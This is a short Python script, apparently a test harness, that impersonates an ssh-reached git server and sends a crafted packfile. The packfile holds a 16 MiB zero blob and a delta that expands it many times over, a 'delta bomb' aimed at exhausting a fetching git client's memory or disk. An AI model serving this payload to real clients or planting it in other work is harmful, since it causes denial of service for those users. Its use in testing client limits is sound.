#!/usr/bin/env python3
"""Stands for ssh and a git server, whose pack holds 16 MiB of zeros and a delta that makes many more of them.

usage: delta-bomb.py COPIES [what ssh is given]
"""
import hashlib, struct, sys, zlib
SIZE = int(sys.argv[1]) * 0xffffff
def line(data): return b"%04x" % (len(data) + 4) + data
def varint(n):
    out = b""
    while n > 127: out += bytes([n & 127 | 128]); n >>= 7
    return out + bytes([n])
def head(kind, size):
    first = kind << 4 | size & 15; size >>= 4; out = b""
    while size: out += bytes([first | 128]); first = size & 127; size >>= 7
    return out + bytes([first])
base = bytes(0xffffff)
name = hashlib.sha1(b"blob %d\0" % len(base) + base).digest()
delta = varint(len(base)) + varint(SIZE) + b"\xf0\xff\xff\xff" * (SIZE // 0xffffff)
commit = b"tree " + b"4" * 40 + b"\nauthor a <a> 0 +0000\ncommitter a <a> 0 +0000\n\nx\n"
tip = hashlib.sha1(b"commit %d\0" % len(commit) + commit).hexdigest().encode()
pack = b"PACK" + struct.pack(">II", 2, 3) + head(1, len(commit)) + zlib.compress(commit)
pack += head(3, len(base)) + zlib.compress(base) + head(7, len(delta)) + name + zlib.compress(delta)
pack += hashlib.sha1(pack).digest()
out = sys.stdout.buffer
out.write(line(tip + b" refs/heads/claims/a\0ofs-delta side-band-64k agent=x\n") + b"0000"); out.flush()
seen = b""
while b"done" not in seen:
    part = sys.stdin.buffer.read1(65536)
    if not part: sys.exit()
    seen += part
out.write(line(b"NAK\n"))
for at in range(0, len(pack), 60000): out.write(line(b"\x01" + pack[at:at + 60000]))
out.write(b"0000"); out.flush()
